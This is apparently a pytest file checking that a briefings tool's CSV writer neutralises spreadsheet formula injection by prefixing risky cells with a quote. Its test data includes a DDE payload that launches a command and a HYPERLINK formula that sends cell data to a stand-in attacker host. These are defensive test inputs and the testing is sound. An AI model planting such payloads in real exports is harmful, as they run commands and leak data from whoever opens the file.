"""No CSV the tool writes starts a spreadsheet formula (issue 22 §9): ids follow the id rule
at validation (tests/corpus: source-id-formula, event-id-formula and their neighbours), and
every cell written goes through one writer that neutralises a leading = + - @."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from conftest import SMALL_EVENTS, SMALL_SOURCES, write_dataset

from briefings.data.columns import EVENT_COLUMNS, SOURCE_COLUMNS
from briefings.data.states import STATE_COLUMNS, states_to_csv
from briefings.draft.accept import accept_draft
from briefings.inputs.csvfile import csv_text, spreadsheet_safe

FORMULAS = ['=HYPERLINK("http://x","y")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1)"]


@pytest.mark.parametrize("cell", [*FORMULAS, "\t=1", "\r=1"])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell):
    assert spreadsheet_safe(cell) == "'" + cell
    [[written]] = list(csv.reader(io.StringIO(csv_text([[cell]]), newline="")))
    assert written == "'" + cell.replace("\r", "\n")


def test_a_break_inside_a_cell_keeps_the_row_whole():
    text = csv_text([["a\rb", "c\r\nd", "e\nf"], ["next"]], newline="\r\n")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["a\nb", "c\nd", "e\nf"], ["next"]]


@pytest.mark.parametrize("cell", ["e1", "2020-02-10", "Aid stopped.", "a=b", "", "True"])
def test_other_cells_are_written_as_they_are(cell):
    assert spreadsheet_safe(cell) == cell
    assert csv_text([[cell, None]]) == csv_text([[cell, ""]])


def test_the_state_table_goes_through_the_writer():
    """Validation keeps such ids out; the writer would still neutralise one that got in."""
    row = dict.fromkeys(STATE_COLUMNS, "")
    row.update(
        track="=cmd|' /C calc'!A0",
        state="on",
        start=pd.Timestamp("2020-01-01").date(),
        end=None,
        start_precision="day",
        confirmed_until=pd.Timestamp("2020-01-01").date(),
        contested=False,
        event_ids=("@e1",),
        source_ids=("s1",),
    )
    text = states_to_csv(pd.DataFrame([row], columns=list(STATE_COLUMNS)))
    [_header, cells] = list(csv.reader(io.StringIO(text)))
    assert cells[0] == "'=cmd|' /C calc'!A0" and cells[7] == "'@e1" and cells[6] == "False"


def test_rows_accepted_from_a_draft_are_neutralised(tmp_path):
    """`briefings draft` writes text from an article, which anyone may have written."""
    data = write_dataset(tmp_path / "data")
    source = {**dict.fromkeys(SOURCE_COLUMNS, ""), **SMALL_SOURCES[0], "source_id": "s9"}
    source["title"] = '=HYPERLINK("http://evil.example/?"&A1)'
    event = {**dict.fromkeys(EVENT_COLUMNS, ""), **SMALL_EVENTS[0], "event_id": "e9"}
    event.update(source_ids="s9", summary="-1 million in aid, said @someone.")
    draft = tmp_path / "draft.csv"
    draft.write_text(csv_text([SOURCE_COLUMNS, source.values(), (), EVENT_COLUMNS, event.values()]))
    accept_draft(draft, data)
    sources = list(csv.DictReader((data / "sources.csv").open(encoding="utf-8")))
    events = list(csv.DictReader((data / "events.csv").open(encoding="utf-8")))
    assert sources[-1]["title"] == '\'=HYPERLINK("http://evil.example/?"&A1)'
    assert events[-1]["summary"] == "'-1 million in aid, said @someone."
